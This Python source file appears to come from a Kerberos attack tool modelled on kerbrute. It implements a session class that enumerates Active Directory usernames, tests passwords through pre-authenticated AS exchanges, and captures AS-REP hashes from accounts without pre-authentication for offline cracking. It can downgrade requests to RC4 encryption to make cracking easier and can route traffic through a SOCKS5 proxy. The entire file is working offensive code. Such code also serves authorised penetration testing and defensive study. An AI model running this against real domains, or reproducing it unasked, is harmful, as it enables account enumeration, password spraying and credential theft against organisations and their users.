#!/usr/bin/env python3
import logging

from impacket.krb5 import constants

from kerbrute.lib.krb5.config import Krb5Config, build_krb5_template, RC4_HMAC
from kerbrute.lib.krb5.client import KerberosClient, decode_as_rep
from kerbrute.modules.asreproast import HashFile, asrep_to_hashcat, principal_name, UnsupportedEncryptionType
from kerbrute.utils.errors import KerbruteError, ConfigurationError, KerberosSemanticError
from kerbrute.utils.logging import NOTICE, LOGGER_NAME

# errors after which the password is known to be right
VALID_LOGIN_ERRORS = (
	constants.ErrorCodes.KDC_ERR_KEY_EXPIRED.value,
	constants.ErrorCodes.KRB_AP_ERR_SKEW.value,
)

THROWAWAY_PASSWORD = "foobar"

class KerbruteSession:
	"""
	Probing context for one realm.

	Built once per run and read-only afterwards, so a single session can be
	shared by every worker thread. Only the hash file is written to, and
	HashFile serializes those writes.

	Args:
		domain (str): target domain, any case
		domain_controller (str): explicit KDC host, DNS discovery when empty
		verbose (bool): kept for the caller's logging setup
		safe_mode (bool): hint for the caller to abort on locked accounts
		downgrade (bool): only request arcfour-hmac-md5 (etype 23)
		hash_filename (str): append captured AS-REP hashes to this file
		socks5_proxy (str): "host:port" of a SOCKS5 proxy for KDC traffic
		socks5_username (str): SOCKS5 username
		socks5_password (str): SOCKS5 password
		logger (logging.Logger): destination of every message of this session
	"""
	def __init__(self, domain, domain_controller=None, verbose=False, safe_mode=False, downgrade=False,
			hash_filename=None, socks5_proxy=None, socks5_username=None, socks5_password=None, logger=None):
		self.logger = logger or logging.getLogger(LOGGER_NAME)

		if not domain:
			raise ConfigurationError("domain must not be empty")

		self.domain = domain
		self.realm = domain.upper()
		self.verbose = verbose
		self.safe_mode = safe_mode
		self.downgrade = downgrade
		self.hash_file = None

		if hash_filename:
			try:
				self.hash_file = HashFile(hash_filename)
			except OSError as e:
				raise ConfigurationError(f"Could not open hash file {hash_filename}: {e}") from e
			self.logger.info(f"Saving any captured hashes to {self.hash_file.name}")
			if not downgrade:
				self.logger.warning("You are capturing AS-REPs, but not downgrading encryption. You probably want to downgrade to arcfour-hmac-md5 (--downgrade) to crack them with a user's password instead of AES keys")

		try:
			self.config_string = build_krb5_template(self.realm, domain_controller)
			self.config = Krb5Config.from_string(self.config_string)

			if socks5_proxy:
				self.config.enable_socks5(socks5_proxy, socks5_username, socks5_password)
				self.logger.info(f"Using SOCKS5 proxy: {socks5_proxy}")
				if socks5_username:
					if socks5_password:
						self.logger.info(f"Using SOCKS5 proxy authentication with username: {socks5_username}")
					else:
						self.logger.info(f"Using SOCKS5 proxy with username: {socks5_username} but no password")

			if downgrade:
				self.config.lib_defaults.default_tkt_enctype_ids = [RC4_HMAC]
				self.logger.info("Using downgraded encryption: arcfour-hmac-md5")

			try:
				self.kdcs = self.config.get_kdcs(self.realm)
			except ConfigurationError as e:
				self.logger.debug(str(e))
				raise ConfigurationError(f"Couldn't find any KDCs for realm {self.realm}. Please specify a Domain Controller") from e
		except ConfigurationError:
			self.close()
			raise

	def __enter__(self):
		return self

	def __exit__(self, exc_type, exc_value, traceback):
		self.close()
		return False

	def close(self):
		if self.hash_file is not None:
			self.hash_file.close()

	def new_client(self, username, password, **kwargs):
		return KerberosClient(username, self.realm, password, self.config, self.kdcs, logger=self.logger, **kwargs)

	def test_login(self, username, password):
		"""
		Full pre-authenticated AS exchange.

		Returns:
			tuple: (valid, error). valid can be True together with an error when the
			KDC accepted the password but reported a condition such as an expired
			password.
		"""
		with self.new_client(username, password, disable_pafx_fast=True, assume_preauth=True) as client:
			try:
				client.login()
			except KerbruteError as e:
				return self.test_login_error(e)
		return True, None

	def test_login_error(self, err):
		if isinstance(err, KerberosSemanticError) and err.error_code in VALID_LOGIN_ERRORS:
			return True, err
		return False, err

	def test_username(self, username):
		"""
		Send an AS-REQ without pre-authentication and read the KDC's answer.

		Returns:
			tuple: (exists, error)
		"""
		# client here does NOT assume preauthentication (as opposed to the one in test_login)
		with self.new_client(username, THROWAWAY_PASSWORD, disable_pafx_fast=True) as client:
			try:
				client.is_configured()
				response = client.exchange()
				asRep = decode_as_rep(response)
			except KerberosSemanticError as e:
				if e.error_code == constants.ErrorCodes.KDC_ERR_PREAUTH_REQUIRED.value:
					return True, None
				return False, e
			except KerbruteError as e:
				return False, e

		# no error means an AS-REP, so the user does not require pre-auth
		self.dump_asrep_hash(asRep)
		return True, None

	def dump_asrep_hash(self, asRep):
		try:
			hash = asrep_to_hashcat(asRep)
		except UnsupportedEncryptionType as e:
			self.logger.debug(f"[!] Got encrypted TGT for {principal_name(asRep)}, but couldn't convert to hash: {e}")
			return

		self.logger.log(NOTICE, f"[+] {principal_name(asRep)} has no pre auth required. Dumping hash to crack offline:\n{hash}")
		if self.hash_file is not None:
			try:
				self.hash_file.write(hash)
			except (OSError, ValueError) as e:
				self.logger.error(f"[!] Error writing hash to file: {e}")
